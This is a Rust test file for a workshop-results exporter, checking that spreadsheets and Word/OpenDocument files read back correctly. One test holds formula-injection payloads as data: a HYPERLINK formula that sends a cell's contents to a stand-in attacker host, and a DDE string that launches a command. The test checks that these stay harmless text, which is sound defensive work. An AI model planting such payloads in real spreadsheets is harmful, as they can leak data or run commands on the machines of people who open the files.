//! The workbook and the Word files, read back by independent readers:
//! calamine for the workbook, zip + an XML parser for both.

use super::tests::{example, files};
use super::*;
use crate::domain::Rgb;
use crate::domain::apply;
use crate::domain::sheet::{BudgetLine, Indicator};
use calamine::{Data, DataType, Reader, Xlsx};
use std::io::{Cursor, Read};

fn rendered(w: &Workshop, format: Format, opts: &Options, name: &str) -> Vec<u8> {
    render(w, format, opts)
        .unwrap()
        .into_iter()
        .find(|f| f.path == Path::new(name))
        .unwrap_or_else(|| panic!("{name} is exported"))
        .bytes
}

fn workbook(w: &Workshop, opts: &Options) -> Xlsx<Cursor<Vec<u8>>> {
    let bytes = rendered(w, Format::Xlsx, opts, workbook::file_name(opts.lang));
    calamine::open_workbook_from_rs(Cursor::new(bytes)).expect("calamine opens the workbook")
}

/// One part of an office file, as text.
fn part(bytes: &[u8], name: &str) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut xml = String::new();
    zip.by_name(name)
        .unwrap_or_else(|_| panic!("{name} in the file"))
        .read_to_string(&mut xml)
        .unwrap();
    xml
}

/// What a cell of a table must read back as.
fn expected(cell: &tables::Cell) -> Data {
    use tables::Cell;
    match cell {
        Cell::Empty => Data::Empty,
        Cell::Text(s) | Cell::Axis { label: s, .. } => {
            Data::String(crate::domain::text::neutralise(s).into_owned())
        }
        Cell::Number(n) | Cell::Euros(n) => Data::Float(*n as f64),
        Cell::Share(p) => Data::Float(*p as f64 / 1000.0),
        Cell::Time(_) | Cell::Month(_) => unreachable!("compared as a date"),
    }
}

#[test]
fn every_table_is_a_typed_worksheet_after_a_summary() {
    let w = example();
    for opts in [Options::new(Lang::Fr), Options::new(Lang::En)] {
        let mut book = workbook(&w, &opts);
        let ctx = report::Ctx::new(&w, &opts);
        let tables = tables::all(&ctx, &opts);
        let mut names = vec![opts.lang.t("workbook.summary").to_string()];
        names.extend(
            tables
                .iter()
                .map(|t| opts.lang.t(&format!("workbook.{}", t.name)).to_string()),
        );
        assert_eq!(book.sheet_names(), names);
        for table in &tables {
            let name = opts.lang.t(&format!("workbook.{}", table.name));
            let range = book.worksheet_range(name).unwrap();
            assert_eq!(range.height(), table.rows.len() + 1, "{name}: every row");
            let head: Vec<Data> = table.head.iter().map(|h| Data::String(h.clone())).collect();
            assert_eq!(range.rows().next().unwrap(), &head[..], "{name}: header");
            for (r, row) in table.rows.iter().enumerate() {
                for (c, cell) in row.iter().enumerate() {
                    let got = range.get((r + 1, c)).cloned().unwrap_or(Data::Empty);
                    let date = match cell {
                        tables::Cell::Time(t) => Some(*t),
                        tables::Cell::Month(m) => m.and_hms_opt(0, 0, 0),
                        _ => None,
                    };
                    if let Some(t) = date {
                        assert!(got.is_datetime(), "{name} {r}:{c} is a date: {got:?}");
                        assert_eq!(got.as_datetime(), Some(t), "{name} {r}:{c}");
                    } else {
                        assert_eq!(got, expected(cell), "{name} row {r} column {c}");
                    }
                }
            }
        }
    }
}

#[test]
fn the_workbook_shows_shares_as_percentages_with_frozen_filtered_headers_and_axis_colours() {
    let w = example();
    let bytes = rendered(&w, Format::Xlsx, &Options::new(Lang::Fr), "resultats.xlsx");
    let styles = part(&bytes, "xl/styles.xml");
    assert!(
        styles.contains(r#"formatCode="0.0%""#),
        "shares as percentages"
    );
    assert!(
        styles.contains("formatCode=\"#,##0 &quot;€&quot;\""),
        "euros"
    );
    assert!(
        styles.contains(r#"formatCode="dd/mm/yyyy hh:mm:ss""#),
        "French dates"
    );
    for axis in w.axes() {
        let Rgb(r, g, b) = axis.color;
        let argb = format!("FF{r:02X}{g:02X}{b:02X}");
        assert!(styles.contains(&argb), "axis {} as a fill", axis.key);
    }
    // Sheet 2 is the proposals.
    let sheet = part(&bytes, "xl/worksheets/sheet2.xml");
    assert!(sheet.contains(r#"state="frozen""#) && sheet.contains(r#"ySplit="1""#));
    assert!(
        sheet.contains("<autoFilter ref=\"A1:"),
        "a filter on the header"
    );
    assert!(sheet.contains("<col "), "column widths");
    let mut book = workbook(&w, &Options::new(Lang::Fr));
    let summary = book.worksheet_range("Synthèse").unwrap();
    let cells: Vec<&Data> = summary.used_cells().map(|(_, _, d)| d).collect();
    assert_eq!(cells[0], &Data::String(w.details().title.clone()));
    assert!(
        cells.iter().any(|d| d.is_datetime()),
        "the workshop's date as a date"
    );
    let live = w.live_proposals().count() as f64;
    let counted: f64 = summary
        .rows()
        .filter(|row| matches!(&row[0], Data::String(s) if s.starts_with(char::is_numeric) || s == "Sans axe"))
        .filter_map(|row| row[1].as_f64())
        .sum();
    assert!(
        (counted - live).abs() < 1e-9,
        "proposals per axis add up: {counted} ≠ {live}"
    );
    assert!(
        summary
            .rows()
            .filter(|row| row[0] == Data::String(w.rounds()[0].name.clone()))
            .count()
            == 1,
        "participation per round"
    );
}

#[test]
fn formula_looking_text_stays_text_in_the_workbook() {
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?q=\"&A1;\"clic\")",
        "+cmd|' /C calc'!A0",
        "-30 % de non-recours",
        "@SUM(1+1)",
        "=1+1",
    ];
    let mut w = example();
    let now = crate::domain::Stamp::from_ymd_hms(2024, 3, 14, 11, 0, 0).unwrap();
    for text in formulas {
        let op = w.op_add_proposal(text, vec![1], text, now).unwrap();
        apply(&mut w, op).unwrap();
    }
    let opts = Options::new(Lang::Fr);
    let mut book = workbook(&w, &opts);
    let range = book.worksheet_range("Propositions").unwrap();
    for text in formulas {
        let rows: Vec<_> = range
            .rows()
            .filter(|row| row[1] == Data::String(text.to_string()))
            .collect();
        assert_eq!(rows.len(), 1, "{text} read back exactly, as text");
        assert_eq!(rows[0][4], Data::String(text.to_string()), "its author too");
    }
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(
            formulas.used_cells().next().is_none(),
            "{name} has no formula"
        );
    }
    let bytes = rendered(&w, Format::Xlsx, &opts, "resultats.xlsx");
    assert!(!part(&bytes, "xl/worksheets/sheet2.xml").contains("<f>"));
}

/// The body of a Word file as lines a person can read: `[Style] text`
/// for a paragraph (`**bold**`, `[!highlighted]`, `{fill:text}`), and a
/// table as rows of `| cell | cell |`.
fn docx_outline(bytes: &[u8]) -> String {
    let xml = part(bytes, "word/document.xml");
    let doc = roxmltree::Document::parse(&xml).expect("well-formed document.xml");
    let body = doc
        .descendants()
        .find(|n| n.has_tag_name((W, "body")))
        .unwrap();
    let mut out = String::new();
    for child in body.children().filter(roxmltree::Node::is_element) {
        match child.tag_name().name() {
            "p" => {
                out.push_str(&para(child));
                out.push('\n');
            }
            "tbl" => {
                for row in child.children().filter(|n| n.has_tag_name((W, "tr"))) {
                    let cells: Vec<String> = row
                        .children()
                        .filter(|n| n.has_tag_name((W, "tc")))
                        .map(|c| {
                            c.children()
                                .filter(|n| n.has_tag_name((W, "p")))
                                .map(para)
                                .collect::<Vec<_>>()
                                .join(" ")
                        })
                        .collect();
                    out.push_str(&format!("| {} |\n", cells.join(" | ")));
                }
            }
            _ => {}
        }
    }
    out
}

const W: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

fn attr<'a>(node: roxmltree::Node<'a, '_>, path: &[&str]) -> Option<&'a str> {
    let mut n = node;
    for tag in path {
        n = n.children().find(|c| c.has_tag_name((W, *tag)))?;
    }
    n.attribute((W, "fill")).or(n.attribute((W, "val")))
}

fn para(p: roxmltree::Node) -> String {
    let mut line = String::new();
    if let Some(style) = attr(p, &["pPr", "pStyle"]) {
        line.push_str(&format!("[{style}] "));
    }
    if attr(p, &["pPr", "numPr", "ilvl"]).is_some() {
        line.push_str("• ");
    }
    for run in p.children().filter(|n| n.has_tag_name((W, "r"))) {
        let mut text = String::new();
        for t in run.children() {
            if t.has_tag_name((W, "t")) {
                text.push_str(t.text().unwrap_or_default());
            } else if t.has_tag_name((W, "br")) {
                text.push('⏎');
            }
        }
        let bold = run
            .children()
            .find(|c| c.has_tag_name((W, "rPr")))
            .is_some_and(|r| r.children().any(|c| c.has_tag_name((W, "b"))));
        if attr(run, &["rPr", "highlight"]).is_some() {
            text = format!("[!{text}]");
        } else if let Some(fill) = attr(run, &["rPr", "shd"]) {
            text = format!("{{{fill}:{text}}}");
        } else if bold && !text.trim().is_empty() {
            text = format!("**{text}**");
        }
        line.push_str(&text);
    }
    line
}

#[test]
fn golden_fiche_docx_and_workbook() {
    let w = example();
    let opts = Options::new(Lang::Fr);
    let fiche = rendered(&w, Format::Docx, &opts, "fiches/FA-01.docx");
    insta::assert_snapshot!("fiche_fa01_docx", docx_outline(&fiche));
    let sparse = rendered(&w, Format::Docx, &opts, "fiches/FA-03.docx");
    insta::assert_snapshot!("fiche_fa03_docx", docx_outline(&sparse));
    let mut book = workbook(&w, &opts);
    let mut dump = String::new();
    for name in book.sheet_names() {
        dump.push_str(&format!("== {name}\n"));
        for row in book.worksheet_range(&name).unwrap().rows() {
            let cells: Vec<String> = row
                .iter()
                .map(|d| match d {
                    Data::Empty => String::new(),
                    Data::String(s) => s.replace('\n', "⏎"),
                    Data::Float(f) => format!("#{f}"),
                    Data::DateTime(d) => format!("@{}", d.as_datetime().unwrap()),
                    other => format!("?{other:?}"),
                })
                .collect();
            dump.push_str(&cells.join(" | "));
            dump.push('\n');
        }
    }
    insta::assert_snapshot!("workbook_fr", dump);
}

#[test]
fn every_field_of_a_sheet_is_in_its_word_file_and_the_empty_ones_are_marked() {
    let mut w = example();
    let sheet = &mut w.sheets_mut()[0];
    sheet.budget = vec![
        BudgetLine {
            year: 2025,
            funder: "État (BOP 304)".into(),
            kind: None,
            amount: 60_000,
        },
        BudgetLine {
            year: 2025,
            funder: "Département".into(),
            kind: None,
            amount: 40_000,
        },
        BudgetLine {
            year: 2026,
            funder: "État".into(),
            kind: None,
            amount: 30_000,
        },
        BudgetLine {
            year: 2026,
            funder: "CAF".into(),
            kind: None,
            amount: 30_000,
        },
    ];
    sheet.indicateurs = vec![Indicator {
        label: "Familles accompagnées".into(),
        yearly: [(2025, "120".to_string()), (2026, "200".to_string())].into(),
        ..Default::default()
    }];
    sheet.gouvernance.clear();
    let s = w.sheets()[0].clone();
    let bytes = rendered(
        &w,
        Format::Docx,
        &Options::new(Lang::Fr),
        "fiches/FA-01.docx",
    );
    // Thousands and units are set apart by no-break spaces.
    let outline = docx_outline(&bytes).replace(['\u{a0}', '\u{202f}'], " ");
    let lines: Vec<&str> = outline.lines().collect();
    assert!(lines[0].starts_with("[Heading1] FA-01 — "), "{}", lines[0]);
    // The title block: axis in its colour with its number, nature, pilot.
    let axis = lines
        .iter()
        .find(|l| l.starts_with("| **Axe** | {56B4E9:"))
        .expect("axis");
    assert!(axis.contains("2 Emploi"), "{axis}");
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with("| **Pilote** | ") && l.contains(&s.pilote.institution))
    );
    for text in [&s.title, &s.constat, &s.description, &s.evaluation] {
        // Each line typed is a paragraph of its own in Word.
        for line in text.lines().filter(|l| !l.trim().is_empty()) {
            assert!(outline.contains(line), "{line}");
        }
    }
    for o in &s.objectifs {
        assert!(outline.contains(&format!("• {o}")), "{o} as a bullet");
    }
    for p in &s.partenaires {
        assert!(
            lines
                .iter()
                .any(|l| l.starts_with(&format!("| {} |", p.name))),
            "{}",
            p.name
        );
    }
    // The budget per year and overall, with the State's share and the flag.
    assert!(
        outline.contains("| 2025 | 100 000 € | 60 000 € | 60,0 % | oui |"),
        "{outline}"
    );
    assert!(outline.contains("| 2026 | 60 000 € | 30 000 € | 50,0 % | non |"));
    assert!(outline.contains("| Total | 160 000 € | 90 000 € | 56,3 % | oui |"));
    assert!(outline.contains("**Attention : la part de l'État dépasse 50 %"));
    // Indicators with a column per year.
    assert!(outline.contains(
        "| **Libellé** | **Type** | **Valeur de départ** | **Cible** | **2025** | **2026** |"
    ));
    assert!(outline.contains("| Familles accompagnées | réalisation |  |  | 120 | 200 |"));
    // What is empty is visibly to complete, under its own heading.
    let gov = lines
        .iter()
        .position(|l| *l == "[Heading2] Gouvernance")
        .unwrap();
    assert_eq!(lines[gov + 1], "[![à compléter]]");
}

#[test]
fn the_report_as_a_word_file_has_every_proposal_and_the_office_files_never_change() {
    let w = example();
    let opts = Options::new(Lang::Fr);
    let report = rendered(&w, Format::Docx, &opts, "rapport.docx");
    let outline = docx_outline(&report);
    for p in w.live_proposals() {
        assert!(outline.contains(&p.text), "n° {} in the report", p.id);
    }
    assert!(outline.contains("[Heading1] "), "real heading styles");
    assert_eq!(
        render(&w, Format::Docx, &opts).unwrap().len(),
        1 + w.sheets().len()
    );
    // Pure: the same workshop, the same bytes (no clock in the files).
    for format in [Format::Xlsx, Format::Docx] {
        let a = render(&w, format, &opts).unwrap();
        let b = render(&w, format, &opts).unwrap();
        assert!(
            a.iter().zip(&b).all(|(x, y)| x.bytes == y.bytes),
            "{format:?}"
        );
    }
}

#[test]
fn anonymous_office_files_name_nobody_and_english_names_its_files() {
    let w = example();
    let opts = Options {
        anonymous: true,
        ..Options::new(Lang::Fr)
    };
    let f = files(&w, Format::All, &opts);
    assert!(f["resultats.xlsx"].contains("V1"), "voters numbered");
    for p in w.participants() {
        for name in ["resultats.xlsx", "rapport.docx", "fiches/FA-01.docx"] {
            assert!(!f[name].contains(&p.name), "{name} names {}", p.name);
        }
    }
    let en = files(&w, Format::All, &Options::new(Lang::En));
    assert!(en.contains_key("results.xlsx") && en.contains_key("report.docx"));
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(24))]

    /// Any text a room may type (accents, emoji, control characters,
    /// formula signs, line breaks) comes back from the workbook exactly as
    /// every export shows it, as text, and stays readable in the Word
    /// report.
    #[test]
    fn any_typed_text_reads_back_from_the_workbook_and_the_word_report(
        text in "[=+@\\-]?[a-zA-Zéèàç€🤝'\"<>&;\t\n\u{1b}\u{7}\u{202e} ]{1,80}",
    ) {
        let mut w = example();
        let now = crate::domain::Stamp::from_ymd_hms(2024, 3, 14, 11, 0, 0).unwrap();
        let Ok(op) = w.op_add_proposal(&text, vec![2], "", now) else {
            return Ok(()); // refused (blank): nothing to export
        };
        apply(&mut w, op).unwrap();
        let stored = w.proposals().last().unwrap().text.clone();
        let shown = crate::domain::text::neutralise(&stored).into_owned();
        let opts = Options::new(Lang::Fr);
        let mut book = workbook(&w, &opts);
        let range = book.worksheet_range("Propositions").unwrap();
        let last = range.rows().next_back().unwrap();
        proptest::prop_assert_eq!(&last[1], &Data::String(shown.clone()));
        let report = rendered(&w, Format::Docx, &opts, "rapport.docx");
        let outline = docx_outline(&report);
        let first_line = shown.lines().next().unwrap_or_default().trim();
        proptest::prop_assert!(outline.contains(first_line), "{first_line:?}");
    }
}

/// A sheet's objectives may hold 100,000 characters each; a spreadsheet
/// cell holds 32,767: the workbook still opens, the cell says it was cut,
/// and the Word fiche keeps every word.
#[test]
fn a_field_longer_than_a_cell_is_cut_visibly_in_the_workbook_and_whole_in_word() {
    let mut w = example();
    let long = "mot ".repeat(12_000); // 48,000 characters
    w.sheets_mut()[0].objectifs = vec![long.clone()];
    let opts = Options::new(Lang::Fr);
    let mut book = workbook(&w, &opts);
    let range = book.worksheet_range("Fiches").unwrap();
    let column = range
        .rows()
        .next()
        .unwrap()
        .iter()
        .position(|h| h == &Data::String("Objectifs".into()))
        .unwrap();
    let Data::String(cell) = &range.rows().nth(1).unwrap()[column] else {
        panic!("text")
    };
    assert_eq!(cell.chars().count(), 32_767);
    assert!(cell.ends_with('…'));
    let fiche = rendered(&w, Format::Docx, &opts, "fiches/FA-01.docx");
    assert!(docx_outline(&fiche).contains(long.trim_end()));
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(24))]
    /// For any budget — the State named as people name it, other funders,
    /// kinds chosen or not — the report, the Word fiche, the CSV and the
    /// workbook show one State share, the domain's, and one warning.
    #[test]
    fn every_output_shows_the_same_state_share(
        lines in proptest::collection::vec(
            (0usize..7, 1u64..200_000, proptest::option::of(0usize..9), 2025u16..2028),
            1..6,
        )
    ) {
        use crate::domain::sheet::FunderKind;
        const NAMES: [&str; 7] = [
            "DDETS de la Drôme (crédits Pacte, BOP 304)",
            "Préfecture de la Drôme",
            "l'État",
            "CAF de la Drôme",
            "Conseil départemental",
            "Fonds social européen",
            "Ville de Valence",
        ];
        let mut w = example();
        let mut sheet = w.sheets()[0].clone();
        sheet.budget = lines
            .iter()
            .map(|(name, amount, kind, year)| BudgetLine {
                year: *year,
                funder: NAMES[*name].to_string(),
                kind: kind.map(|k| FunderKind::ALL[k]),
                amount: *amount,
            })
            .collect();
        apply(&mut w, crate::domain::Op::ReplaceSheet(Box::new(sheet))).unwrap();
        let sum = w.sheets()[0].budget_summary();
        let lang = crate::i18n::Lang::Fr;
        let share = crate::i18n::percent(lang, sum.state_permille().unwrap());
        let warning = crate::i18n::state_warning(lang, &sum);
        let opts = Options::new(lang);
        let md = String::from_utf8(rendered(&w, Format::Md, &opts, "rapport.md")).unwrap();
        proptest::prop_assert!(md.contains(&share), "the report: {}", share);
        let csv = String::from_utf8(rendered(&w, Format::Csv, &opts, "fiches.csv")).unwrap();
        let row = csv.lines().find(|l| l.starts_with("FA-01")).unwrap();
        let decimal = format!("{},{}", sum.state_permille().unwrap() / 10, sum.state_permille().unwrap() % 10);
        proptest::prop_assert!(row.contains(&decimal), "the CSV: {} in {}", decimal, row);
        let docx = docx_outline(&rendered(&w, Format::Docx, &opts, "fiches/FA-01.docx"));
        proptest::prop_assert!(docx.contains(&share), "the Word fiche: {}", share);
        let odt = plain_lines(&rendered(&w, Format::Odt, &opts, "fiches/FA-01.odt"), true).join("\n");
        proptest::prop_assert!(odt.contains(&share), "the OpenDocument fiche: {}", share);
        if let Some(warning) = warning {
            proptest::prop_assert!(md.contains(warning));
            proptest::prop_assert!(docx.contains(warning));
            proptest::prop_assert!(odt.contains(warning));
            proptest::prop_assert!(row.contains(warning));
        }
    }
}

#[test]
fn the_workbook_prints_on_a4_with_its_header_row_and_page_numbers_on_every_page() {
    let w = example();
    let opts = Options::new(Lang::Fr);
    let bytes = rendered(&w, Format::Xlsx, &opts, workbook::file_name(Lang::Fr));
    let book = part(&bytes, "xl/workbook.xml");
    for n in 1..=8 {
        let sheet = part(&bytes, &format!("xl/worksheets/sheet{n}.xml"));
        assert!(sheet.contains("paperSize=\"9\""), "sheet {n} on A4");
        assert!(sheet.contains("orientation=\"landscape\""), "sheet {n}");
        assert!(
            sheet.contains("<oddFooter>&amp;CPage &amp;P / &amp;N</oddFooter>"),
            "sheet {n}"
        );
        assert!(
            sheet.contains("<oddHeader>&amp;LConcertation Pacte local des solidarités"),
            "sheet {n}: {sheet}"
        );
        // Never shrunk below 8 pt: fitted only when that stays readable.
        if let Some(at) = sheet.find("scale=\"") {
            let scale: u32 = sheet[at + 7..].split('"').next().unwrap().parse().unwrap();
            assert!(scale >= 73, "sheet {n} at {scale} %");
        }
    }
    // The header row of every table repeats on each printed page.
    assert_eq!(book.matches("_xlnm.Print_Titles").count(), 7, "{book}");
}

#[test]
fn the_word_files_are_deflated_repeat_their_header_rows_and_say_who_and_what() {
    let w = example();
    let opts = Options::new(Lang::Fr);
    let bytes = rendered(&w, Format::Docx, &opts, "rapport.docx");
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes.clone())).unwrap();
    for i in 0..zip.len() {
        let part = zip.by_index(i).unwrap();
        assert_eq!(
            part.compression(),
            zip::CompressionMethod::Deflated,
            "{}",
            part.name().unwrap()
        );
    }
    let doc = part(&bytes, "word/document.xml");
    let tables = doc.matches("<w:tbl>").count();
    let repeated = doc.matches("<w:tblHeader/>").count();
    assert!(repeated > 0 && repeated <= tables, "{repeated} of {tables}");
    let core = part(&bytes, "docProps/core.xml");
    assert!(core.contains("<dc:title>Concertation Pacte local des solidarités — Drôme</dc:title>"));
    assert!(core.contains("<dc:creator>Camille Martin (DDETS de la Drôme)</dc:creator>"));
    assert!(core.contains("<dc:language>fr-FR</dc:language>"));
    assert!(core.contains("2024-03-14T00:00:00Z"));
    assert!(part(&bytes, "word/styles.xml").contains(r#"<w:lang w:val="fr-FR""#));
    // Every cell says its width, as the grid does: Word and LibreOffice
    // both keep them.
    assert_eq!(
        doc.matches("<w:tc>").count(),
        doc.matches("<w:tcW ").count()
    );
    let footer = (1..=3)
        .filter_map(|n| {
            let mut z = zip::ZipArchive::new(Cursor::new(bytes.clone())).unwrap();
            let mut xml = String::new();
            z.by_name(&format!("word/footer{n}.xml"))
                .ok()?
                .read_to_string(&mut xml)
                .ok()?;
            Some(xml)
        })
        .collect::<String>();
    assert!(
        footer.contains("PAGE") && footer.contains("NUMPAGES"),
        "{footer}"
    );
    // Anonymous: nobody's name in the properties.
    let anonymous = Options {
        anonymous: true,
        ..Options::new(Lang::Fr)
    };
    let bytes = rendered(&w, Format::Docx, &anonymous, "rapport.docx");
    assert!(!part(&bytes, "docProps/core.xml").contains("Camille"));
}

/// A cell as both readers can say it: dates in ISO form, numbers as
/// numbers, text as text.
fn comparable(cell: &Data) -> String {
    match cell {
        Data::DateTime(d) => d
            .as_datetime()
            .map(|t| t.format("%Y-%m-%dT%H:%M:%S").to_string())
            .unwrap_or_default(),
        Data::DateTimeIso(s) if s.len() == 10 => format!("{s}T00:00:00"),
        Data::DateTimeIso(s) => s.clone(),
        Data::Int(n) => format!("number {n}"),
        Data::Float(f) => format!("number {f}"),
        Data::String(s) => format!("text {s}"),
        other => format!("{other:?}"),
    }
}

#[test]
fn the_ods_has_the_same_sheets_and_cells_as_the_xlsx() {
    let mut w = example();
    // Text a spreadsheet could take for a formula, spaces that ODF would
    // collapse, and a line break.
    let tricky = "=HYPERLINK(\"x\")  deux  espaces\n\tet une tabulation";
    let now = crate::domain::Stamp::from_ymd_hms(2024, 3, 14, 11, 0, 0).unwrap();
    let op = w.op_add_proposal(tricky, vec![2], "  Asso  ", now).unwrap();
    apply(&mut w, op).unwrap();
    for opts in [Options::new(Lang::Fr), Options::new(Lang::En)] {
        let mut xlsx = workbook(&w, &opts);
        let bytes = rendered(&w, Format::Ods, &opts, ods::file_name(opts.lang));
        let mut ods: calamine::Ods<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.clone()))
            .expect("calamine opens the .ods");
        assert_eq!(xlsx.sheet_names(), ods.sheet_names());
        for name in xlsx.sheet_names() {
            let a = xlsx.worksheet_range(&name).unwrap();
            let b = ods.worksheet_range(&name).unwrap();
            let cells = |r: &calamine::Range<Data>| -> Vec<(u32, u32, String)> {
                r.cells()
                    .filter(|(_, _, c)| !c.is_empty())
                    .map(|(row, col, c)| {
                        let (r0, c0) = r.start().unwrap_or((0, 0));
                        (row as u32 + r0, col as u32 + c0, comparable(c))
                    })
                    .collect()
            };
            assert_eq!(cells(&a), cells(&b), "sheet {name}");
        }
        let content = part(&bytes, "content.xml");
        assert!(!content.contains("table:formula"), "no formula anywhere");
        assert_eq!(
            part(&bytes, "mimetype"),
            "application/vnd.oasis.opendocument.spreadsheet"
        );
    }
}

/// The text of a Word or OpenDocument file, paragraph by paragraph and
/// row by row, with no look: what both must say alike.
fn plain_lines(bytes: &[u8], odf: bool) -> Vec<String> {
    let xml = part(
        bytes,
        if odf {
            "content.xml"
        } else {
            "word/document.xml"
        },
    );
    let doc = roxmltree::Document::parse(&xml).unwrap();
    let text_of = |p: roxmltree::Node| -> String {
        let mut s = String::new();
        for n in p.descendants() {
            match n.tag_name().name() {
                "s" if odf => {
                    let c: usize = n
                        .attribute(("urn:oasis:names:tc:opendocument:xmlns:text:1.0", "c"))
                        .and_then(|c| c.parse().ok())
                        .unwrap_or(1);
                    s.push_str(&" ".repeat(c));
                }
                "tab" => s.push('\t'),
                "line-break" | "br" => s.push('\n'),
                _ if n.is_text()
                    && (odf || n.parent().is_some_and(|t| t.has_tag_name((W, "t")))) =>
                {
                    s.push_str(n.text().unwrap_or_default());
                }
                _ => {}
            }
        }
        s
    };
    let is_para = |n: &roxmltree::Node| {
        let name = n.tag_name().name();
        if odf {
            name == "p" || name == "h"
        } else {
            n.has_tag_name((W, "p"))
        }
    };
    let is_row = |n: &roxmltree::Node| n.tag_name().name() == if odf { "table-row" } else { "tr" };
    let is_cell =
        |n: &roxmltree::Node| n.tag_name().name() == if odf { "table-cell" } else { "tc" };
    let body = doc
        .descendants()
        .find(|n| n.tag_name().name() == if odf { "text" } else { "body" } && n.is_element())
        .unwrap();
    let mut lines = Vec::new();
    for n in body.descendants().filter(roxmltree::Node::is_element) {
        if is_row(&n) {
            let cells: Vec<String> = n
                .children()
                .filter(is_cell)
                .map(|c| {
                    c.children()
                        .filter(is_para)
                        .map(text_of)
                        .collect::<Vec<_>>()
                        .join(" / ")
                })
                .collect();
            lines.push(format!("| {} |", cells.join(" | ")));
        } else if is_para(&n) && !n.ancestors().any(|a| is_cell(&a)) {
            lines.push(text_of(n));
        }
    }
    lines
}

#[test]
fn the_odt_says_what_the_docx_says_paragraph_by_paragraph() {
    let w = super::tests::tricky();
    let opts = Options::new(Lang::Fr);
    let all = render(&w, Format::All, &opts).unwrap();
    let by_path = |p: &str| {
        all.iter()
            .find(|f| f.path == Path::new(p))
            .unwrap_or_else(|| panic!("{p}"))
            .bytes
            .clone()
    };
    let mut compared = 0;
    for f in all
        .iter()
        .filter(|f| f.path.extension().is_some_and(|e| e == "odt"))
    {
        let docx = f.path.with_extension("docx");
        let docx = by_path(docx.to_str().unwrap());
        let odt_lines = plain_lines(&f.bytes, true);
        let docx_lines = plain_lines(&docx, false);
        assert_eq!(odt_lines, docx_lines, "{}", f.path.display());
        assert!(odt_lines.len() > 5);
        assert_eq!(
            part(&f.bytes, "mimetype"),
            "application/vnd.oasis.opendocument.text"
        );
        let styles = part(&f.bytes, "styles.xml");
        assert!(styles.contains("fo:page-width=\"21cm\"") && styles.contains("<text:page-number"));
        let content = part(&f.bytes, "content.xml");
        // The same header rows repeat on each page as in Word.
        assert_eq!(
            content.matches("<table:table-header-rows>").count(),
            part(&docx, "word/document.xml")
                .matches("<w:tblHeader/>")
                .count()
        );
        compared += 1;
    }
    assert!(compared >= 2, "the report and at least one fiche");
}

#[test]
fn a_table_too_big_to_hold_is_written_row_by_row_and_reads_back_whole() {
    use tables::{Cell, DataTable};
    let w = example();
    let opts = Options::new(Lang::Fr);
    let ctx = report::Ctx::new(&w, &opts);
    let rows: Vec<Vec<Cell>> = (0..6_000u64)
        .map(|i| {
            vec![
                Cell::Number(i),
                Cell::Text(format!("=proposition {i}\nsur deux lignes")),
                Cell::Euros(i * 100),
                Cell::Share(i % 1000),
            ]
        })
        .collect();
    let table = DataTable {
        name: "ballots",
        head: vec!["N°".into(), "Texte".into(), "Montant".into(), "Part".into()],
        rows,
    };
    let bytes = workbook::render(&ctx, std::slice::from_ref(&table)).unwrap();
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let name = Lang::Fr.t("workbook.ballots");
    let range = book.worksheet_range(name).unwrap();
    assert_eq!(range.height(), 6_001);
    for (r, row) in table.rows.iter().enumerate().step_by(997) {
        for (c, cell) in row.iter().enumerate() {
            assert_eq!(
                range.get((r + 1, c)).cloned().unwrap(),
                expected(cell),
                "{r}:{c}"
            );
        }
    }
}
